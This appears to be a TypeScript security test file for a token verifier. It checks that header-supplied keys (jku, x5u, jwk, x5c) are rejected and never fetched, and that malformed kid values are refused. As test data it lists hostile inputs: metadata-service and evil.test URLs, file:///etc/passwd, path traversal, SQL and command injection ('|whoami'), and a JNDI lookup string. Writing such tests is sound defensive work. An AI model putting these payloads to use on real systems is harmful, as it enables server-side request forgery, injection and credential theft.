// Keys that the sender brings, points to, or names: none of them is used, and nothing is fetched

import { createVerifier, localKeys, type VerifierOptions } from '../../../src/index.ts';
import { equal, type ContractCase } from '../case.ts';
import { sign } from '../support/forge.ts';
import { accepts, refused, rejects, type Control, type Mutation } from '../support/mutations.ts';
import { clock, keyOf, now, world } from '../support/world.ts';

const urls = [
  'https://evil.test/jwks.json',
  'http://169.254.169.254/latest/meta-data',
  'https://issuer.test@evil.test/jwks.json',
  'https://issuer.test.evil.test/jwks.json',
  'https://issuer.test/redirect?to=https://evil.test',
  'file:///etc/passwd',
  'data:application/json,{"keys":[]}',
];

/** The header members that bring a key or point to one, with a value each. */
const pointers: readonly (readonly [member: string, value: unknown])[] = [
  ...urls.map((url) => ['jku', url] as const),
  ...urls.slice(0, 3).map((url) => ['x5u', url] as const),
  ['x5c', ['MIIB']],
  ['x5c', []],
  ['jwk', {}],
  ['jwk', null],
  ['jku', null],
  ['x5u', ''],
];

const pointed = pointers.flatMap(([member, value]): Mutation[] => {
  const shown = `${member} ${JSON.stringify(value)}`;
  return [
    {
      name: `${shown} over a right signature`,
      mutate: (from) => from.withHeader({ [member]: value }),
      code: 'header_not_allowed',
    },
    {
      name: `${shown} over a stranger's signature`,
      mutate: ({ stranger, header, claims }) =>
        sign(stranger.privateKey, { ...header, [member]: value }, claims),
      code: 'header_not_allowed',
    },
  ];
});

const embedded = [true, false].map((withKid): Mutation => ({
  name: `a stranger's key in jwk, ${withKid ? 'with' : 'without'} the trusted kid`,
  mutate: ({ stranger, header, claims }) => {
    const { kid, ...rest } = header;
    const jwk = stranger.publicJwk;
    return sign(stranger.privateKey, { ...rest, jwk, ...(withKid ? { kid } : {}) }, claims);
  },
  code: 'header_not_allowed',
}));

const thumbprints = ['x5t', 'x5t#S256'].map((member): Mutation => ({
  name: `a stranger's signature with ${member} of the stranger's certificate`,
  mutate: ({ stranger, header, claims }) =>
    sign(stranger.privateKey, { ...header, [member]: stranger.kid }, claims),
  code: 'signature_invalid',
}));

const unknownKids = [
  '../../../../dev/null',
  '..\\..\\win.ini',
  '/proc/self/environ',
  "' OR 1=1--",
  "x' UNION SELECT 'k",
  '|whoami',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'length',
  '0',
  'a\u0000b',
  'a\r\nb',
  '',
  'x'.repeat(128),
  'x'.repeat(129),
  null,
  1,
  true,
  [],
  ['kid'],
  {},
].map((kid): Mutation => ({
  name: `kid ${JSON.stringify(kid).slice(0, 40)}`,
  mutate: (from) => from.withHeader({ kid }),
  code: 'key_unknown',
}));

const nearKids: readonly Mutation[] = [
  {
    name: 'the right kid with a space after it',
    mutate: (from) => from.withHeader({ kid: `${from.key.kid} ` }),
    code: 'key_unknown',
  },
  {
    name: 'the right kid in another case',
    mutate: (from) => from.withHeader({ kid: from.key.kid.toLowerCase() }),
    code: 'key_unknown',
  },
  {
    name: 'the right kid in an array',
    mutate: (from) => from.withHeader({ kid: [from.key.kid] }),
    code: 'key_unknown',
  },
  {
    name: 'a kid with a lone surrogate',
    mutate: ({ signed, header, claims }) =>
      signed(JSON.stringify({ ...header, kid: 'K' }).replace('"K"', '"\\ud800"'), claims),
    code: 'token_malformed',
  },
  {
    name: 'a kid of 10 KB',
    mutate: (from) => from.withHeader({ kid: 'x'.repeat(10_240) }),
    code: 'token_too_large',
  },
  {
    name: 'a kid of 1 MB',
    mutate: (from) => from.withHeader({ kid: 'x'.repeat(1_048_576) }),
    code: 'token_too_large',
  },
  {
    name: "the kid of a stranger's key",
    mutate: ({ stranger, header, claims }) =>
      sign(stranger.privateKey, { ...header, kid: stranger.kid }, claims),
    code: 'key_unknown',
  },
  {
    name: 'no kid where two keys fit the algorithm',
    mutate: (from) => from.withHeader({ kid: undefined }),
    code: 'key_unknown',
    by: async ({ key, stranger, verifierWith }) =>
      verifierWith({ keys: await localKeys({ keys: [key.publicJwk, stranger.publicJwk] }) }),
  },
];

const good: readonly Control[] = [
  { name: 'x5t, which it ignores', make: (from) => from.withHeader({ x5t: 'AAAA' }) },
  { name: 'x5t#S256, which it ignores', make: (from) => from.withHeader({ 'x5t#S256': 'AAAA' }) },
  {
    name: 'no kid where one key fits the algorithm',
    make: (from) => from.withHeader({ kid: undefined }),
  },
];

/** Runs with every `fetch` counted and refused. */
async function countFetches(run: () => Promise<void>): Promise<number> {
  const original = globalThis.fetch;
  let count = 0;
  globalThis.fetch = () => {
    count++;
    return Promise.reject(new Error('no fetch is allowed here'));
  };
  try {
    await run();
  } finally {
    globalThis.fetch = original;
  }
  return count;
}

export const cases: readonly ContractCase[] = [
  ...rejects([...pointed, ...embedded, ...thumbprints, ...unknownKids, ...nearKids]),
  ...accepts(good),
  {
    name: 'verifyAgentToken() fetches nothing that a header points to',
    run: async () => {
      const from = await world();
      const tokens = await Promise.all(
        pointers.map(([member, value]) => from.withHeader({ [member]: value })),
      );
      const fetches = await countFetches(async () => {
        for (const token of tokens) await refused(from.verifier, token, 'header_not_allowed');
      });
      equal(fetches, 0, 'fetches');
    },
  },
  {
    name: "verifyAgentToken() rejects the kid of one issuer's key in a token of another issuer",
    run: async () => {
      const one = await keyOf('ES256', 'trusted');
      const other = await keyOf('ES256', 'other issuer');
      const { header, claims } = await world();
      const options: VerifierOptions = {
        issuers: [
          { issuer: 'one', keys: await localKeys(one.publicJwk) },
          { issuer: 'other', keys: await localKeys(other.publicJwk) },
        ],
        clock,
      };
      const verifier = createVerifier(options);
      const claim = (iss: string) => ({ ...claims, iss, iat: now });
      const own = { ...header, kid: other.kid };
      await verifier.verifyAgentToken(await sign(other.privateKey, own, claim('other')));
      await refused(verifier, await sign(other.privateKey, own, claim('one')), 'key_unknown');
      const noKid = { ...header, kid: undefined };
      const crossed = await sign(other.privateKey, noKid, claim('one'));
      await refused(verifier, crossed, 'signature_invalid');
    },
  },
];
